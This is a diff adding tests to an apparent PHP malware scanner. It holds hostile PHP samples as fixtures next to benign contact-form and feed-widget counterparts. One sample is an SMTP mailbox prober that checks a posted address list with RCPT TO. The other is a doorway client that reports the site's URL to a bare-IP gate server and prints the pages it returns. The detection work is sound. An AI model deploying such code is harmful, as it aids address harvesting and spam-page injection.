@@ -115,3 +115,37 @@ test('php payload stored as ROT13-scrambled hex digits', () => {
   const ok = `<?php\n$s = "${'0123456789'.repeat(20)}";\n`;
   assert.deepEqual(verdict('digits.php', ok), [undefined, []]);
 });
+
+test('php mailbox prober: RCPT TO against the MX of request-listed addresses', () => {
+  const code = `<?php
+foreach (explode("\\n", $_POST['list']) as $addr) {
+  $domain = substr(strrchr(trim($addr), '@'), 1);
+  if (!getmxrr($domain, $hosts)) continue;
+  $s = fsockopen($hosts[0], 25);
+  fwrite($s, "HELO probe.example\\r\\nMAIL FROM: <a@probe.example>\\r\\nRCPT TO: <" . trim($addr) . ">\\r\\n");
+  echo $addr . ': ' . fgets($s) . "\\n";
+}
+`;
+  assert.deepEqual(verdict('mx.php', code), ['suspicious', ["asks recipients' mail servers (RCPT TO on port 25) whether request-listed addresses exist (mailbox prober)"]]);
+  // a contact form handing one message to the site's configured relay
+  const ok = `<?php
+$s = fsockopen('mail.example.org', 25);
+fwrite($s, "HELO www.example.org\\r\\nMAIL FROM: <web@example.org>\\r\\nRCPT TO: <office@example.org>\\r\\nDATA\\r\\n" . strip_tags($_POST['msg']) . "\\r\\n.\\r\\n");
+echo 'sent';
+`;
+  assert.deepEqual(verdict('contact.php', ok), [undefined, []]);
+});
+
+test("php doorway client: pages from a bare-IP server that is told this site's host name", () => {
+  const code = `<?php
+$me = 'http://' . $_SERVER['SERVER_NAME'] . $_SERVER['PHP_SELF'];
+echo file_get_contents('http://198.51.100.23/gate.php?site=' . urlencode($me));
+`;
+  assert.deepEqual(verdict('door.php', code), [
+    'suspicious',
+    ["prints pages fetched from a server named by its IP address, reporting this site's host name to it (doorway / link-injection client)"],
+  ]);
+  // a feed widget fetching from a named service
+  const ok = code.replace('198.51.100.23', 'feeds.example.com');
+  assert.deepEqual(verdict('feed.php', ok), [undefined, []]);
+});
